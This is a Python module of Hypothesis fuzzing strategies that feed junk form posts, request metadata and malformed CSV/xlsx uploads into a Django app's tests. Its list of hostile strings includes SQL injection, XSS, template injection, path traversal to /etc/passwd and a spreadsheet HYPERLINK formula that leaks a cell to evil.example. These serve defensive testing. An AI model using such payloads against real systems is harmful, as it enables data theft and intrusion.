"""Hypothesis strategies for hostile input, and the settings every fuzz test runs under.

Why strategies that mix good and junk values
    Pure random text almost never gets past the first field of a form or the first column of a
    sheet, so the code behind it (the service, the write, the audit row) would never be
    exercised. Each form field and each sheet column therefore has a *good* strategy (values
    the page or importer must accept) and a *junk* one (anything an attacker or a broken
    spreadsheet may send). A post drawn entirely from good values has a known answer (it is
    accepted); one with any junk has only the invariant answer (never a 500, and either
    accepted as one row or nothing changed).

Values that name rows of the test's world (a category's id, a station's id) cannot be known
when strategies are built, so they are written as ``<<name>>`` placeholders and replaced by the
test (``resolve``); junk wraps them too (`` <<category>>0``).
"""

import csv
import io
import re
import zipfile
from dataclasses import dataclass, field
from datetime import date, datetime
from urllib.parse import urlencode

from django.test.client import BOUNDARY, encode_multipart
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

# --- settings --------------------------------------------------------------------------------

# derandomize: a fixed seed, so CI sees the same examples on every run and every database;
# database=None: no .hypothesis directory in the working tree.
FUZZ = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=False,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# The regression tests of findings: run their explicit @example only (no search, no shrinking).
EXPLICIT_ONLY = settings(FUZZ, phases=[Phase.explicit])

TODAY = date(2026, 6, 15)
# Names in the tests' worlds (conftest) that strategies and assertions refer to.
PHONE_SHOWN = "13912345678"  # an opinion's contact phone, never on a public page
COURSE = "如何撰写高质量建议"
FULL_COURSE = "满员课程"


def mostly(good, *others) -> st.SearchStrategy:
    """``good`` most of the time, now and then one of ``others`` (see ``one_in``)."""
    return st.sampled_from([good, good, good, *others, good, good])


def usually(good: st.SearchStrategy, bad: st.SearchStrategy, n: int = 16) -> st.SearchStrategy:
    """A value from ``good``, but about once in ``n`` draws one from ``bad``."""
    return one_in(n).flatmap(lambda rare: bad if rare else good)


def one_in(n: int) -> st.SearchStrategy[bool]:
    """True about once in ``n`` draws. Hypothesis favours both ends of a choice (and starts
    from, and shrinks towards, the first): the rare case sits in the middle, or a test would
    see it far more often than once in ``n``."""
    half = (n - 1) // 2
    return st.sampled_from([False] * half + [True] + [False] * (n - 1 - half))


# --- text ------------------------------------------------------------------------------------

NASTY = [
    *["", " ", "\x00", "a\x00b", "\r\n", "\t", "\x1c\x1d\x1e\x1f", "\x7f\x85\xa0", "'", '"', "\\"],
    *["' OR '1'='1", "1; DROP TABLE liaison_opinion; --", "<script>alert(1)</script>"],
    *['"><img src=x onerror=alert(1)>', "{{ 7|add:7 }}", "{% debug %}", "%s%s%s%n", "%(n)d"],
    *["\u202e\u0644\u0627", "\ufeff", "\u200b\u200d", "😀" * 10, "𠜎𠜱𡃁", "\x1b[31mred"],
    *["null", "None", "NaN", "Infinity", "-Infinity", "-1", "0", "1e309", "9" * 30, "-" + "9" * 30],
    *["０１２", "١٢٣", "²", "../../etc/passwd", '=HYPERLINK("http://evil.example/"&A1)'],
]
# Characters a browser (or an attacker) can send: anything but lone surrogates.
ANY_CHAR = st.characters(codec="utf-8")
NO_NUL_CHAR = st.characters(codec="utf-8", exclude_characters="\x00")
CONTROL_CHAR = st.characters(codec="utf-8", categories=("Cc", "Cf", "Zs", "Zl", "Zp", "Co"))

control_text = st.text(CONTROL_CHAR, min_size=1, max_size=12)
long_text = st.builds(
    lambda unit, n: unit * n,
    st.sampled_from(["长", "a", "😀", "\x00", " ", "=", "\u202e", "路灯坏了"]),
    st.sampled_from([31, 51, 121, 201, 301, 2_001, 33_000]),
)
number_text = st.one_of(
    st.integers(-(10**30), 10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)
junk_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(ANY_CHAR, max_size=40),
    control_text,
    number_text,
    long_text,
)


def ref_junk(name: str) -> st.SearchStrategy[str]:
    """A reference to a real row, mangled: padded, signed, suffixed, doubled."""
    ref = f"<<{name}>>"
    return st.sampled_from(
        [f" {ref} ", f"+{ref}", f"-{ref}", f"{ref}0", f"0{ref}", f"{ref}.0", f"{ref},{ref}"]
    )


def resolve(value, refs: dict[str, str]):
    """Replace every ``<<name>>`` placeholder in a value (or list of values)."""
    if isinstance(value, list):
        return [resolve(v, refs) for v in value]
    if isinstance(value, str) and "<<" in value:
        return re.sub(r"<<(\w+)>>", lambda m: refs.get(m[1], m[0]), value)
    return value


# --- forms -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Field:
    """One form field: values it must accept, values to attack it with, and whether the form
    may omit it."""

    good: st.SearchStrategy
    junk: st.SearchStrategy = junk_text
    required: bool = True


@dataclass
class Post:
    data: dict[str, str | list[str]]
    valid: bool  # every field good (or an optional one left out): the page must accept it
    encoding: str  # "urlencoded" (what browsers send) or "multipart"

    def body(self, refs: dict[str, str]) -> tuple[bytes, str]:
        """The request body as a browser would send it, and its content type."""
        data = {key: resolve(value, refs) for key, value in self.data.items()}
        if self.encoding == "multipart":
            return encode_multipart(BOUNDARY, data), f"multipart/form-data; boundary={BOUNDARY}"
        return urlencode(data, doseq=True).encode(), "application/x-www-form-urlencoded"

    def send(self, client, url: str, refs: dict[str, str], **extra):
        body, content_type = self.body(refs)
        return client.generic("POST", url, body, content_type=content_type, **extra)


# Field names for extra, unknown fields: arbitrary for urlencoded bodies; in multipart the test
# client writes the name into a header, so quotes and line breaks there would garble the body.
extra_names = st.text(
    st.characters(codec="utf-8", exclude_characters='\x00"\r\n\\'), min_size=1, max_size=20
)


@st.composite
def posts(draw, fields: dict[str, Field]) -> Post:
    """A form post: all good, one field bad (junk or missing), or each field at random (good,
    junk, missing, or sent twice with the good value last: the one Django reads); plus up to
    three unknown fields."""
    mode = draw(st.sampled_from(("valid", "valid", "one_bad", "random")))
    bad = draw(st.sampled_from(sorted(fields))) if mode == "one_bad" else None
    data: dict[str, str | list[str]] = {}
    valid = True
    for name, spec in fields.items():
        if mode == "valid" or (mode == "one_bad" and name != bad):
            how = "good"
        elif mode == "one_bad":
            how = draw(st.sampled_from(("junk", "missing")))
        else:
            how = draw(st.sampled_from(("good", "junk", "missing", "twice")))
        if how == "good":
            data[name] = draw(spec.good)
        elif how == "twice":
            data[name] = [draw(spec.junk), draw(spec.good)]
        elif how == "junk":
            data[name] = draw(spec.junk)
            valid = False
        elif spec.required:
            valid = False
    for key, value in draw(st.dictionaries(extra_names, junk_text, max_size=3)).items():
        if key not in fields and key != "csrfmiddlewaretoken":
            data[key] = value
    encoding = draw(st.sampled_from(("urlencoded", "urlencoded", "multipart")))
    return Post(data, valid, encoding)


query_params = st.dictionaries(
    st.one_of(st.sampled_from(["code", "format", "next", "page", "q", "lang"]), junk_text),
    st.one_of(junk_text, st.lists(junk_text, max_size=3)),
    max_size=4,
)
ADDRESSES = ["127.0.0.1", "203.0.113.9", "2001:db8::1", "::ffff:198.51.100.7", "[2001:db8::1]:443"]
remote_addrs = st.one_of(
    st.sampled_from([*ADDRESSES, "198.51.100.7:8080", "", "unknown", "999.1.1.1"]), junk_text
)
forwarded_for = st.one_of(
    st.none(),
    st.lists(st.one_of(st.ip_addresses().map(str), junk_text), max_size=4).map(", ".join),
)


@dataclass(frozen=True)
class Conditions:
    """Who is posting, and from where: a client address (garbled ones too) through 0-2
    trusted proxies, CSRF checked or not, and whether this address has used up its limit."""

    remote_addr: str
    forwarded_for: str | None
    hops: int
    csrf: bool
    flooded: bool

    def meta(self) -> dict[str, str]:
        meta = {"REMOTE_ADDR": wsgi_str(self.remote_addr)}
        if self.forwarded_for is not None:
            meta["HTTP_X_FORWARDED_FOR"] = wsgi_str(self.forwarded_for)
        return meta


def wsgi_str(text: str) -> str:
    """A header value as a WSGI server hands it to Django: the bytes the client sent (UTF-8
    here), each as one Latin-1 character. A server cannot pass anything else."""
    return text.encode("utf-8").decode("latin-1")


conditions = st.builds(
    Conditions,
    remote_addr=remote_addrs,
    forwarded_for=forwarded_for,
    hops=st.sampled_from([0, 0, 1, 2]),
    csrf=one_in(6),
    flooded=one_in(5),
)
raw_bodies = st.one_of(
    st.binary(max_size=300),
    st.sampled_from([b"%", b"%ZZ", b"a=%FF%FE", b"=&=&&", b"a" * 40_000, b"\x00\xff" * 10]),
)
content_types = st.sampled_from(
    [
        *["application/x-www-form-urlencoded", "application/json", "text/plain; charset=utf-16"],
        *[
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=z",
        ],
        *["application/x-www-form-urlencoded; charset=bogus-8", ""],
    ]
)

# --- sheets ----------------------------------------------------------------------------------


def dates_as_cells(lo: date, hi: date) -> st.SearchStrategy:
    """A date in range written the ways sheets write it (or a real date cell)."""
    return st.dates(lo, hi).flatmap(
        lambda d: st.sampled_from(
            [
                *[d.isoformat(), f"{d.year}/{d.month}/{d.day}", f"{d.year}.{d.month}.{d.day}"],
                *[f" {d.isoformat()} ", d, datetime(d.year, d.month, d.day, 9, 30)],
            ]
        )
    )


bad_dates = st.sampled_from(
    [
        *["2026-02-30", "2026-13-01", "0000-01-01", "0001-01-01", "1899-12-31", "9999-12-31"],
        *["20260615", "2026年6月15日", "1-1-1", "2026--01", "--", ".", "/", "2026-06-15T10:00"],
        *["45000", "２０２６-０６-０１"],
    ]
)
junk_cells = st.one_of(
    junk_text, st.integers(-(2**40), 2**40), st.floats(), st.booleans(), st.none()
)


@dataclass
class Sheet:
    """A sheet as drawn: a header line and body lines of Python cell values."""

    header: list
    rows: list[list] = field(default_factory=list)


@st.composite
def sheets(draw, columns, cells: st.SearchStrategy[dict], unique_by=None, hostile=True) -> Sheet:
    """The importer's headers in any accepted spelling, shuffled, with lines drawn from
    ``cells`` (a coherent line as a dict by column name) that differ in what ``unique_by``
    says (the importers refuse repeated lines). A ``hostile`` sheet may also have random
    headers, optional or required columns left out, a duplicate or unknown header, junk cells,
    ragged lines (cells missing or extra), blank lines, or no lines at all."""
    chosen = list(columns)
    if hostile and draw(one_in(3)):
        chosen = [c for c in columns if c.required or draw(st.booleans())]
    if hostile and chosen and draw(one_in(8)):
        chosen.remove(draw(st.sampled_from(chosen)))  # a required column missing
    chosen = draw(st.permutations(chosen))
    header = [draw(st.sampled_from([c.name, *c.aliases, c.name.upper()])) for c in chosen]
    names: list[str | None] = [c.name for c in chosen]
    if hostile and draw(one_in(6)):
        header = draw(st.lists(junk_text, max_size=6))
        names = [None] * len(header)
    elif hostile and draw(one_in(6)):
        header.append(draw(st.one_of(junk_text, st.sampled_from(header or ["x"]))))
        names.append(None)
    noise = draw(st.sampled_from([4, 12, 3])) if hostile else 0  # one cell in ``noise`` is junk
    least = 0 if hostile and draw(one_in(8)) else 1
    key = None if hostile and draw(one_in(3)) else unique_by
    rows = []
    for values in draw(st.lists(cells, min_size=least, max_size=5, unique_by=key)):
        line = []
        for name in names:
            if name is None or (noise and draw(one_in(noise))):
                line.append(draw(junk_cells))
            else:
                line.append(values.get(name, ""))
        ragged = draw(st.integers(-2, 8)) if noise else 0
        if ragged < 0:
            line = line[:ragged]
        elif ragged >= 7:
            line += draw(st.lists(junk_cells, min_size=1, max_size=3))
        rows.append(line)
    if noise and draw(one_in(5)):
        rows.insert(draw(st.integers(0, len(rows))), [])  # a blank line
    return Sheet(header, rows)


def _text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):  # a date cell saved as CSV: the day (times are junk)
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def _csv_text(sheet: Sheet, naive: bool) -> str:
    lines = [sheet.header, *sheet.rows]
    if naive:  # written by hand: no quoting, so commas, quotes and newlines break the lines
        return "\n".join(",".join(_text(v) for v in line) for line in lines) + "\n"
    out = io.StringIO()
    csv.writer(out).writerows([[_text(v) for v in line] for line in lines])
    return out.getvalue()


_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx_cell(value):
    if isinstance(value, str):
        return _ILLEGAL_XLSX.sub("", value)
    if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
        return str(value)
    if isinstance(value, int) and not isinstance(value, bool) and abs(value) > 2**53:
        return str(value)
    return value


def xlsx_bytes(sheet: Sheet) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet()
    for line in [sheet.header, *sheet.rows]:
        worksheet.append([_xlsx_cell(v) for v in line])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _not_xlsx_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<not-a-workbook>")
    return out.getvalue()


# How each CSV variant is encoded; the hostile ones are refused as unreadable (UTF-16, most
# Latin-1 with replacement) or read as what they are (GB18030 decodes as such).
ENCODINGS = {
    **{"csv": "utf-8", "csv-bom": "utf-8-sig", "csv-naive": "utf-8", "csv-gb18030": "gb18030"},
    **{"csv-utf16": "utf-16", "csv-latin1": "latin-1"},
}
FILE_FORMATS = (*ENCODINGS, "xlsx", "xlsx-truncated", "xlsx-csv", "zip-not-xlsx", "bytes", "empty")

ODD_NAMES = {
    "csv": ["X.CSV", "名册.csv", "x.txt", "x", "x.csv.exe"],
    "xlsx": ["x.XLSX", "x.xlsm", "x.csv"],
}


@st.composite
def filenames(draw, kind: str) -> str:
    return draw(st.sampled_from(ODD_NAMES[kind])) if draw(one_in(6)) else f"x.{kind}"


@dataclass
class Upload:
    data: bytes
    filename: str
    fmt: str
    physical_lines: int  # an upper bound on the line numbers an error may name
    plain: bool = False  # a clean sheet in a readable file (see ``uploads``)


@st.composite
def uploads(draw, columns, cells: st.SearchStrategy[dict], unique_by=None, hostile=False):
    """A file as an importer receives it. A plain one: a clean sheet as UTF-8 CSV (with or
    without a BOM) or real xlsx, named .csv/.xlsx, most of which import. A ``hostile`` one: a
    sheet with junk (see ``sheets``) as CSV in several encodings (GB18030, UTF-16, Latin-1 with
    replacement, written without quoting), as real or truncated xlsx, or bytes that claim to
    be a spreadsheet and are not, an empty file, an odd name."""
    fmt = draw(st.sampled_from(FILE_FORMATS)) if hostile else draw(mostly("csv", "xlsx", "csv-bom"))
    sheet = draw(sheets(columns, cells, unique_by, hostile=hostile))
    plain = not hostile

    def name(kind: str) -> str:
        return draw(filenames(kind)) if hostile else f"x.{kind}"

    if fmt in ENCODINGS:
        text = _csv_text(sheet, naive=fmt == "csv-naive")
        data = text.encode(ENCODINGS[fmt], errors="replace")
        lines = 2 + text.count("\n") + text.count("\r")
        return Upload(data, name("csv"), fmt, lines, plain)
    if fmt.startswith("xlsx"):
        data = xlsx_bytes(sheet)
        if fmt == "xlsx-truncated":
            data = data[: draw(st.integers(0, len(data) - 1))]
        filename = "x.csv" if fmt == "xlsx-csv" else name("xlsx")
        return Upload(data, filename, fmt, 2 + len(sheet.rows), plain)
    if fmt == "zip-not-xlsx":
        return Upload(_not_xlsx_zip(), "x.xlsx", fmt, 1)
    if fmt == "bytes":
        data = draw(st.binary(max_size=200))
        return Upload(data, draw(st.sampled_from(["x.csv", "x.xlsx"])), fmt, 2 + data.count(b"\n"))
    return Upload(draw(st.sampled_from([b"", b" \n\r\n\t", b"\xef\xbb\xbf"])), "x.csv", fmt, 1)
